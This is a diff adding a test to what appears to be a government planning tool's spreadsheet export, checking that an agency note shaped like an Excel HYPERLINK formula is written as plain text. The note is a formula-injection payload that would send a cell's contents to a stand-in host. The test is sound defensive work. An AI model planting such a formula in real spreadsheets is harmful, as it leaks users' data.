@@ -278,3 +278,20 @@ def test_demo_reports_are_refused_unless_asked_then_marked_on_every_page(store, 
 
     document = Document(tmp_path / "out" / "laporan_lima_tahunan_TTU-2018-2022_DEMO.docx")
     assert "DATA DEMO" in document.sections[0].header.paragraphs[0].text
+
+
+def test_an_agency_note_that_looks_like_a_formula_is_text_in_the_form(store, tmp_path):
+    """A note '=HYPERLINK("http://…?leak="&A2,"Klik")' (typed as text, as Excel keeps it after
+    an apostrophe) was written into the evaluation form as a live formula: the planner's Excel
+    would have run it. Every cell of the form is text or a number, never a formula."""
+    note = '=HYPERLINK("http://contoh.invalid/?leak="&A2,"Klik")'
+    path = fill(make_template(store, tmp_path / "d.xlsx", "DINSOS", 2021), {
+        "2.a.1.3": {"value": 2, "note": note},
+    })  # fmt: skip
+    assert ingest_file(store, path).ok
+    with session(store) as s:
+        write_form(s, get_plan(s), 2021, tmp_path / "f.xlsx", "DINSOS")
+    ws = openpyxl.load_workbook(tmp_path / "f.xlsx").active
+    cells = [c for r in ws.iter_rows() for c in r if c.value not in (None, "")]
+    assert [c.value for c in cells if c.value == note] == [note]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
